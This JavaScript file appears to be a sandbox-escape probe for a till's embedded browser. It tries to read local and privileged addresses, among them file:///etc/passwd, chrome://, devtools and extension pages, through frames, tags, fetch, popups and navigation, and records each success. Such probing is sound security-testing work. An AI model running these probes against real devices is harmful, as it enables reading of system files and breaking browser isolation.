// SPDX-License-Identifier: MIT
// Reads the till's own files and the browser's own pages, in frames, windows and in its own place.
const addresses = ['file:///etc/passwd', 'file://192.168.7.7/share', 'chrome://version', 'chrome://gpu', 'qrc:/kassi/host/bridge.js',
    'view-source:https://bank.test/', 'view-source:file:///etc/passwd', 'devtools://devtools/bundled/inspector.html',
    'chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html', 'filesystem:https://bank.test/temporary/x',
    'about:version', 'chrome-untrusted://print', 'externalfile:x', 'jar:file:///x', 'qrc:///'];
for (const address of addresses) {
    const inner = frame(address);
    add('img', { src: address, onload: () => won(address) });
    add('script', { src: address, onload: () => won(address) });
    if (await soon(attempt(() => fetch(address)), 50))
        await won(address);
    await pause(10);
    const text = attempt(() => inner.contentDocument.body.textContent);
    if (text)
        await won(`${address} is ${text.slice(0, 20)}`);
}
await clicked();
addresses.forEach((address) => attempt(() => open(address)));
await clicked();
addresses.forEach((address) => follow(address, { target: '_blank' }));
for (const address of addresses)
    attempt(() => { location = address; });
await pause(100);
